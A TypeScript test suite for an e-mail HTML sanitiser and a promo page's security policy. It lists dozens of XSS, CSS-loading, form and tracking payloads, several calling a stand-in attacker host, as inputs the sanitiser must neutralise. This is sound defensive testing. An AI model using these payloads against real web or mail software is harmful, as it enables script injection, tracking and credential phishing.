import fc from 'fast-check'
import sanitize from 'sanitize-html'
import { describe, expect, it, vi } from 'vitest'
import { HOSTILE_PROMO } from '../demo/catalogue/fixtures.ts'
import { cleanHtml } from './cleanHtml.ts'
import { promoPage } from './promoPage.ts'

vi.mock('sanitize-html', { spy: true })

const clean = (html: string, withImages = false) => cleanHtml(html, withImages).html

describe('an e-mail', () => {
  it('keeps its tables, its words and its inline styles', () => {
    const mail =
      '<table width="100%" cellpadding="0"><tr><td style="background:#123456;padding:4px 8px"><b>Out &amp; about</b><br />“now”</td></tr></table>'
    expect(clean(mail)).toBe(mail)
  })
  it('opens its links in a new tab without a way back', () => {
    expect(clean('<a href="https://label.example/x?a=1&amp;b=2" target="_top" onclick="x()">Hear</a>')).toBe(
      '<a href="https://label.example/x?a=1&amp;b=2" target="_blank" rel="noopener noreferrer nofollow">Hear</a>',
    )
    expect(clean('<a href="mailto:promo@label.example">Write</a>')).toContain('href="mailto:promo@label.example"')
  })
  it('closes what it left open and drops what it closed twice', () => {
    expect(clean('<div><b>one</div></i>two')).toBe('<div><b>one</b></div>two')
  })
  it('shows pictures only when they were asked for, and their words otherwise', () => {
    const mail = '<p><img src="https://label.example/a.png" alt="The band" width="300"></p>'
    expect(clean(mail)).toBe('<p><span>The band</span></p>')
    expect(clean(mail, true)).toContain('<img alt="The band" width="300" src="https://label.example/a.png"')
    expect([
      cleanHtml(mail, false).images,
      cleanHtml(mail, true).images,
      cleanHtml('<p>none</p>', true).images,
    ]).toEqual([1, 1, 0])
    expect(clean('<img src="https://label.example/a.png" alt="<b>x</b>">')).toBe('<span>&lt;b&gt;x&lt;/b&gt;</span>')
  })
})

/** Ways in which a mail calls somebody, runs something, restyles or leads away; what they may leave is their text. */
const VECTORS: readonly [name: string, html: string][] = [
  ['a script', '<script>alert(1)</script><script src="//attacker.example/s.js"></script>x'],
  ['a script that never ends', 'x<script>alert(1)'],
  ['an end tag with a space', '<script>alert(1)</script \n>x'],
  ['an event handler', '<p onclick=alert(1) oNmouseover="x">x</p>'],
  ['a handler behind a slash', '<b/onclick=alert(1)>x</b>'],
  ['a javascript link', '<a href="javascript:alert(1)">x</a>'],
  ['one with a tab in it', '<a href="java\tscript:alert(1)">x</a>'],
  ['one spelt in references', '<a href="&#106;avascript&colon;alert(1)">x</a>'],
  ['a data link', '<a href="data:text/html,<script>1</script>">x</a>'],
  ['a link with a password', '<a href="https://u:p@label.example/">x</a>'],
  ['a relative link', '<a href="/account">x</a>'],
  ['a link without a protocol', '<a href="//attacker.example/">x</a>'],
  ['a link that is watched', '<a href="https://label.example/" ping="https://attacker.example/ping">x</a>'],
  ['svg', '<svg onload=alert(1)><script>1</script><image href="https://attacker.example/i"/><use href="https://attacker.example/u#a"/></svg>x'],
  ['math that hides an image', '<math><mtext><img src=x onerror=alert(1)></mtext></math>x'],
  ['noscript that hides an attribute', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">x'],
  ['a textarea that hides one', '<textarea><p title="</textarea><img src=x onerror=alert(1)>"></textarea>x'],
  ['a template', '<template><img src="https://attacker.example/t"></template>x'],
  ['a style sheet', '<style>@import url(//attacker.example);body{display:none}</style>x'],
  ['a linked style sheet', '<link rel="stylesheet" href="https://attacker.example/style.css">x'],
  ['a style that loads', '<p style="background:url(https://attacker.example/x);color:red">x</p>'],
  ['a style that chooses', '<p style="background:image-set(\'https://attacker.example/x\' 1x)">x</p>'],
  ['a style that escapes', '<p style="background:u\\72l(//attacker.example)">x</p>'],
  ['a style in references', '<p style="background:&#117;rl(//attacker.example)">x</p>'],
  ['a list with a picture', '<ul style="list-style:url(https://attacker.example/l)"><li>x</li></ul>'],
  ['a cover over everything', '<div style="position:fixed;inset:0;z-index:9">x</div>'],
  ['a background attribute', '<table background="https://attacker.example/b"><tr><td background="//attacker.example/c">x</td></tr></table>'],
  ['a picture set', '<picture><source srcset="https://attacker.example/p"><img srcset="https://attacker.example/q 2x" alt=""></picture>x'],
  ['a film', '<video src="https://attacker.example/v" poster="https://attacker.example/w" autoplay></video><audio src="https://attacker.example/a" autoplay></audio>x'],
  ['a track', '<video><track src="https://attacker.example/t" default></video>x'],
  ['frames', '<iframe src="https://attacker.example/f" srcdoc="<script>1</script>"></iframe><frameset><frame src="https://attacker.example/g"></frameset>x'],
  ['objects', '<object data="https://attacker.example/o"></object><embed src="https://attacker.example/e"><applet code="https://attacker.example/p"></applet>x'],
  ['a form', '<form action="https://attacker.example"><input name=password><input type=image src="https://attacker.example/i"><button formaction="https://attacker.example">x</button></form>'],
  ['a refresh', '<meta http-equiv=refresh content="0;url=https://attacker.example">x'],
  ['a base', '<base href="https://attacker.example/">x'],
  ['a preconnect', '<link rel=preconnect href="https://attacker.example"><link rel=dns-prefetch href="//attacker.example">x'],
  ['a comment that hides a tag', '<!-- --><b>x</b><!-- <img src=x onerror=1> -->'],
  ['a comment that is none', '<!--><img src=x onerror=alert(1)>-->x'],
  ['a tag in an attribute', '<b title="</b><script>alert(1)</script>">x</b>'],
  ['a tag in references', '&lt;script&gt;alert(1)&lt;/script&gt;x'],
  ['a broken tag', '<b <script>x</b>'],
  ['a pixel by http', '<img src="http://attacker.example/p.png" alt="">x'],
  ['a name of the page', '<p id="root" class="shell" name="location">x</p>'],
] // biome-ignore format: one attack a line

/** A tag as the cleaning writes it: a known element, and attributes in quotes with nothing in them that ends them. */
const TAG = /<(?:\/[a-z][a-z0-9]*|[a-z][a-z0-9]*(?: [a-z]+="[^"<>]*")*(?: \/)?)>/g
const ATTRIBUTES =
  /^(abbr|align|alt|bgcolor|border|cellpadding|cellspacing|color|cols|colspan|datetime|dir|face|headers|height|href|hspace|lang|loading|nowrap|referrerpolicy|rel|rowspan|rows|scope|size|span|src|start|style|summary|target|title|type|valign|value|vspace|width)$/

/** @throws when something of the result could run, load by itself, restyle or lead away */
function harmless(result: string): void {
  expect(result.replace(TAG, '')).not.toMatch(/[<>]/)
  for (const [tag] of result.matchAll(TAG)) {
    expect(tag).not.toMatch(
      /^<\/?(?:script|style|svg|math|iframe|frame|object|embed|form|input|button|link|meta|base|video|audio|source|template|noscript|textarea|select)\b/,
    )
    for (const [, name = '', value = ''] of tag.matchAll(/ ([a-z]+)="([^"]*)"/g)) {
      expect(name).toMatch(ATTRIBUTES)
      if (name === 'href') expect(value).toMatch(/^(https?|mailto|tel):/)
      if (name === 'src') expect(value).toMatch(/^https:/)
      if (name === 'style') expect(value).not.toMatch(/url|image|expression|import|@|\\|position|z-index/i)
    }
  }
}

describe('RELEASE-030: a hostile e-mail', () => {
  it.each(VECTORS)('%s leaves its words at most', (_name, html) => {
    for (const withImages of [false, true]) {
      const result = clean(html, withImages)
      harmless(result)
      expect(result).not.toMatch(/attacker|onerror|onload|alert\(1\)"/)
      // What swallows the rest of a mail may take its words with it.
      if (!/noscript|textarea|never ends|broken/.test(_name)) expect(result).toContain('x')
    }
  })

  it('is the demo’s own, of 21 kinds', () => {
    for (const withImages of [false, true]) {
      harmless(clean(HOSTILE_PROMO, withImages))
      expect(clean(HOSTILE_PROMO, withImages)).toContain('This text is harmless and may be read.')
    }
    expect(cleanHtml(HOSTILE_PROMO, true).images).toBe(1)
  })

  it('comes out as nothing but elements and attributes of an e-mail, whatever it was', () => {
    const piece = fc.constantFrom(
      '<', '>', '"', "'", '`', '=', '/', '&', '<!--', '-->', '<b', '<a href=', '<script>', '</script>', '<img src=https://a.example/x onerror=', '<svg>',
      '</svg>', 'style="', 'url(', '&lt;', '&#60;', '&#x3c;', '<textarea>', '</textarea ', 'javascript:', '\0', '<!', '<?', ' onload=x ', 'x', '\n', '<p ', 'color:red', '(', '}',
    ) // biome-ignore format: a table
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 40 }), fc.boolean(), (pieces, withImages) => {
        const result = clean(pieces.join(''), withImages)
        harmless(result)
      }),
      { numRuns: 1000 },
    )
  })

  it('takes no longer the longer it is: of a megabyte of anything no more is parsed than of a letter', {
    tags: ['long'],
  }, () => {
    const attacks = ['<', '<head>', '<option>', '<b ', '<!--', '<script>', '&#', '<b><i>', '</b>', '<a b="', '<svg>', '<p>x', `<b style="${'('.repeat(1990)}">`, `<b style="${'color:red;'.repeat(190)}">`] // biome-ignore format: a list
    for (const attack of attacks) {
      vi.mocked(sanitize).mockClear()
      expect(clean(attack.repeat(Math.ceil(1_000_000 / attack.length))).length).toBeLessThan(3_000_000)
      const parsed = vi.mocked(sanitize).mock.calls.map(([html]) => html)
      expect(parsed).toHaveLength(1)
      // The parser's work grows with the square of the tags it reads.
      expect(parsed[0]?.length).toBeLessThanOrEqual(500_000)
      expect(parsed[0]?.split('<').length).toBeLessThanOrEqual(20_001)
    }
  })

  it('is read to its end when it is as long as letters are', () => {
    const rows = '<tr><td style="padding:4px"><b>One more song</b> of many</td></tr>'.repeat(2000)
    expect(clean(`<table>${rows}</table><p>The end</p>`)).toContain('<p>The end</p>')
  })
})

describe('the page it is shown in', () => {
  it('RELEASE-030: runs nothing and calls nobody, by a policy of its own', () => {
    const { html, policy } = promoPage(clean(HOSTILE_PROMO), 'en', false)
    expect(policy).toBe(
      "default-src 'none'; style-src 'unsafe-inline'; base-uri 'none'; form-action 'none'; frame-ancestors 'self'; sandbox allow-popups allow-popups-to-escape-sandbox",
    )
    expect(html).toContain('This text is harmless and may be read.')
    expect(html.replace(/<style>.*?<\/style>/s, '')).not.toMatch(
      /<script|onerror|onload|attacker\.example\/(?!out)|refresh|position/,
    )
  })
  it('RELEASE-030: lets pictures load when they were asked for, and nothing else', () => {
    expect(promoPage('', 'en', true).policy).toContain(
      "default-src 'none'; style-src 'unsafe-inline'; img-src https:; ",
    )
  })
})
